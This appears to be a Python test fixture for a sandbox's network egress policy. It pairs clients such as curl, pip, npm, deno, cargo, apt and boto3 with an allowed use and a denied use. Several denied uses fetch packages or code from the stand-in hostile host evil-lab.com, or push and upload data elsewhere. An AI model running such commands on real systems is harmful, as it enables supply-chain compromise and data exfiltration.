"""The clients, and one allowed and one denied use of each.

Uses are shell scripts, run in an empty directory of the sandbox by `sh -ec`. They carry no option about trust or proxies: what a
sandbox sets up has to do. `$PROGRAMS` is the folder of the small programs here.
"""

from __future__ import annotations

from dataclasses import dataclass, field

API = "https://api.lab-origin.com"
GRPC = "grpc.lab-origin.com:50051"


@dataclass(frozen=True, slots=True)
class Use:
    """One thing to do with a client; `expects` must be in what an allowed one prints."""

    script: str
    expects: str = ""


@dataclass(frozen=True, slots=True)
class Client:
    """A client, what it needs here (see `Cache.lacks`), and its uses."""

    name: str
    needs: tuple[str, ...]
    version: str
    allowed: Use
    denied: Use
    helps: str = ""
    """What a person does who wants to know more than the client says."""
    env: dict[str, str] = field(default_factory=dict)
    refuses: str = "evil-lab.com"
    """The host that the denied use goes to, or a name above it."""


def _python(
    module: str, program: str, helps: str = "", url: str = API, denied: str = "https://evil-lab.com/"
) -> Client:
    """A Python library, by a program that lets the library's error end it."""
    run = f"python $PROGRAMS/{program}.py"
    show = f"python -c 'import importlib.metadata as m; print(m.version(\"{module}\"))'"
    allowed = Use(f"{run} {url}/v1/models", "lab-model")
    return Client(module, ("python", f"python:{module}"), show, allowed, Use(f"{run} {denied}"), helps)


_KEYS = {
    "AWS_ACCESS_KEY_ID": "AKIALABLABLABLABLAB1",
    "AWS_SECRET_ACCESS_KEY": "lab-object-store-secret",
    "AWS_DEFAULT_REGION": "eu-central-1",
}
_APT = (
    "mkdir -p lists/partial cache/archives/partial; : > status; echo '{line}' > sources;"
    " apt() {{ apt-get -q -o Dir::State=$PWD -o Dir::State::Lists=$PWD/lists -o Dir::State::Status=$PWD/status"
    " -o Dir::Cache=$PWD/cache -o Dir::Etc::SourceList=$PWD/sources -o Dir::Etc::SourceParts=/dev/null"
    ' -o Debug::NoLocking=1 "$@"; }};'
    " apt update; apt download lab-hello; ls *.deb"
)
_CARGO = (
    "export CARGO_HOME=$PWD/home; mkdir src home; : > src/lib.rs;"
    ' printf \'[package]\\nname="x"\\nversion="1.0.0"\\nedition="2021"\\n[dependencies]\\nlab-greeting="1"\\n\' > Cargo.toml;'
)
_GO = "export GOPATH=$PWD/go GOFLAGS=-modcacherw GOSUMDB=off; go mod init x 2>/dev/null;"
_CHROMIUM = (
    "chromium --headless --no-sandbox --disable-gpu --disable-background-networking --user-data-dir=$PWD/profile"
    " --virtual-time-budget=5000 --dump-dom"
)

CLIENTS: tuple[Client, ...] = (
    Client(
        "curl",
        ("curl",),
        "curl --version | head -1 | cut -d' ' -f2",
        Use(f"curl -sS {API}/v1/models", "lab-model"),
        Use("curl -sS https://evil-lab.com/"),
    ),
    Client(
        "curl -f",
        ("curl",),
        "curl --version | head -1 | cut -d' ' -f2",
        Use(f"curl -fsS {API}/v1/models", "lab-model"),
        Use("curl -fsS https://evil-lab.com/"),
        "`--fail-with-body` prints why",
    ),
    Client(
        "wget",
        ("wget",),
        "wget --version | head -1 | cut -d' ' -f3",
        Use(f"wget -q -O - {API}/v1/models", "lab-model"),
        Use("wget https://evil-lab.com/file"),
    ),
    Client(
        "git",
        ("git",),
        "git --version | cut -d' ' -f3",
        Use("git clone https://github.com/acme/tools && ls tools", "tool.sh"),
        Use("git clone https://github.com/other/private"),
        refuses="github.com",
    ),
    Client(
        "git push",
        ("git",),
        "git --version | cut -d' ' -f3",
        Use(
            "git clone -q https://github.com/acme/tools && git -C tools fetch && git -C tools log --oneline",
            "first commit",
        ),
        Use(
            "git clone -q https://github.com/acme/tools && cd tools &&"
            " git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x && git push"
        ),
        refuses="github.com",
    ),
    Client(
        "pip (Debian's)",
        ("/usr/bin/python3", "/usr/bin/pip3"),
        "/usr/bin/pip3 --version | cut -d' ' -f2",
        Use("/usr/bin/pip3 install --target pkgs lab-hello && ls pkgs", "lab_greeting.py"),
        Use("/usr/bin/pip3 install --target pkgs --index-url https://pypi.evil-lab.com/simple lab-hello"),
        "`-vv` prints why",
    ),
    Client(
        "pip",
        ("python", "python:pip"),
        "python -m pip --version | cut -d' ' -f2",
        Use("python -m pip install --target pkgs lab-hello && ls pkgs", "lab_greeting.py"),
        Use("python -m pip install --target pkgs --index-url https://pypi.evil-lab.com/simple lab-hello"),
        "`-vv` prints why",
    ),
    Client(
        "uv",
        ("uv",),
        "uv --version | cut -d' ' -f2",
        Use("uv pip install --python /usr/bin/python3 --target pkgs lab-hello && ls pkgs", "lab_greeting.py"),
        Use(
            "uv pip install --python /usr/bin/python3 --target pkgs --default-index https://pypi.evil-lab.com/simple lab-hello"
        ),
    ),
    Client(
        "npm",
        ("npm",),
        "npm --version",
        Use("npm install lab-greeting && ls node_modules", "lab-greeting"),
        Use("npm install --registry https://npm.evil-lab.com/ lab-greeting"),
    ),
    Client(
        "pnpm",
        ("pnpm",),
        "pnpm --version",
        Use("pnpm add lab-greeting && ls node_modules", "lab-greeting"),
        Use("pnpm add --registry https://npm.evil-lab.com/ lab-greeting"),
    ),
    Client(
        "bun",
        ("bun",),
        "bun --version",
        Use("bun add lab-greeting && ls node_modules", "lab-greeting"),
        Use("bun add --registry https://npm.evil-lab.com/ lab-greeting"),
        "`--verbose` prints why",
    ),
    Client(
        "deno",
        ("deno",),
        "deno --version | head -1 | cut -d' ' -f2",
        Use(f"deno run --allow-net $PROGRAMS/fetch.mjs {API}/v1/models", "lab-model"),
        Use("deno run --allow-import https://evil-lab.com/module.ts"),
        env={"DENO_NO_UPDATE_CHECK": "1"},
    ),
    Client(
        "Node fetch",
        ("node",),
        "node --version",
        Use(f"node $PROGRAMS/fetch.mjs {API}/v1/models", "lab-model"),
        Use("node $PROGRAMS/fetch.mjs https://evil-lab.com/"),
    ),
    Client(
        "cargo",
        ("cargo",),
        "cargo --version | cut -d' ' -f2",
        Use(f"{_CARGO} cargo fetch && ls home/registry/cache/*", "lab-greeting-1.0.0.crate"),
        Use(
            f'{_CARGO} mkdir .cargo; printf \'[source.crates-io]\\nreplace-with="other"\\n[source.other]\\n'
            'registry="sparse+https://crates.evil-lab.com/"\\n\' > .cargo/config.toml; cargo fetch'
        ),
    ),
    Client(
        "go",
        ("go",),
        "go version | cut -d' ' -f3",
        Use(f"{_GO} go get lab-origin.com/greeting@v1.0.0 && cat go.mod", "lab-origin.com/greeting v1.0.0"),
        Use(f"{_GO} GOPROXY=https://goproxy.evil-lab.com go get lab-origin.com/greeting@v1.0.0"),
    ),
    Client(
        "gem",
        ("gem",),
        "gem --version",
        Use("gem install --install-dir gems lab-greeting && ls gems/gems", "lab-greeting-1.0.0"),
        Use("gem install --install-dir gems --clear-sources --source https://gems.evil-lab.com lab-greeting"),
    ),
    Client(
        "Maven",
        ("mvn",),
        "mvn -B --version 2>/dev/null | grep -o 'Apache Maven [0-9.]*'",
        Use("cp $PROGRAMS/pom.xml . && mvn -B -Dmaven.repo.local=repo validate", "BUILD SUCCESS"),
        Use(
            "cp $PROGRAMS/pom.xml . && mvn -B -Dmaven.repo.local=repo -s $PROGRAMS/settings-denied.xml validate"
        ),
    ),
    Client(
        "Java HttpClient",
        ("javac",),
        "java --version 2>/dev/null | head -1 | cut -d' ' -f2",
        Use(f"java $PROGRAMS/Fetch.java {API}/v1/models", "lab-model"),
        Use("java $PROGRAMS/Fetch.java https://evil-lab.com/"),
    ),
    Client(
        "apt (http)",
        ("apt-get", "dpkg-deb"),
        "apt-get --version | sed -n '1s/^apt \\([^ ]*\\).*/\\1/p'",
        Use(
            _APT.format(line="deb [trusted=yes] http://deb.debian.org/debian stable main"),
            "lab-hello_1.0_all.deb",
        ),
        Use(_APT.format(line="deb [trusted=yes] http://deb.evil-lab.com/debian stable main")),
    ),
    Client(
        "apt (https)",
        ("apt-get", "dpkg-deb"),
        "apt-get --version | sed -n '1s/^apt \\([^ ]*\\).*/\\1/p'",
        Use(
            _APT.format(line="deb [trusted=yes] https://deb.debian.org/debian stable main"),
            "lab-hello_1.0_all.deb",
        ),
        Use(_APT.format(line="deb [trusted=yes] https://deb.evil-lab.com/debian stable main")),
    ),
    Client(
        "Python urllib",
        ("/usr/bin/python3",),
        "/usr/bin/python3 --version | cut -d' ' -f2",
        Use(f"/usr/bin/python3 $PROGRAMS/get_urllib.py {API}/v1/models", "lab-model"),
        Use("/usr/bin/python3 $PROGRAMS/get_urllib.py https://evil-lab.com/"),
    ),
    _python("requests", "get_requests"),
    _python("httpx", "get_httpx"),
    _python("aiohttp", "get_aiohttp"),
    Client(
        "boto3",
        ("python", "python:boto3"),
        "python -c 'import boto3; print(boto3.__version__)'",
        Use("python $PROGRAMS/put_boto3.py lab-bucket", "200000 bytes stored"),
        Use("python $PROGRAMS/put_boto3.py somebody-elses-bucket"),
        env=_KEYS,
        refuses="amazonaws.com",
    ),
    Client(
        "grpcio",
        ("python", "python:grpc"),
        "python -c 'import grpc; print(grpc.__version__)'",
        Use(f"python $PROGRAMS/call_grpc.py {GRPC}", "hello, unary\none two three"),
        Use("python $PROGRAMS/call_grpc.py grpc.evil-lab.com:443"),
    ),
    Client(
        "websockets",
        ("python", "python:websockets"),
        "python -c 'import importlib.metadata as m; print(m.version(\"websockets\"))'",
        Use("python $PROGRAMS/echo_websockets.py wss://api.lab-origin.com/ws", "one\ntwo"),
        Use("python $PROGRAMS/echo_websockets.py wss://evil-lab.com/ws"),
    ),
    Client(
        "Chromium",
        ("chromium",),
        "chromium --version 2>/dev/null | cut -d' ' -f2",
        Use(f"{_CHROMIUM} {API}/v1/models", "lab-model"),
        Use(f"{_CHROMIUM} https://evil-lab.com/"),
    ),
    Client(
        "skopeo",
        ("skopeo",),
        "skopeo --version | cut -d' ' -f3",
        Use(
            "skopeo --insecure-policy copy docker://docker.io/library/lab-hello:latest dir:image && ls image",
            "manifest.json",
        ),
        Use(
            "skopeo --insecure-policy copy docker://registry.evil-lab.com/library/lab-hello:latest dir:image"
        ),
    ),
)
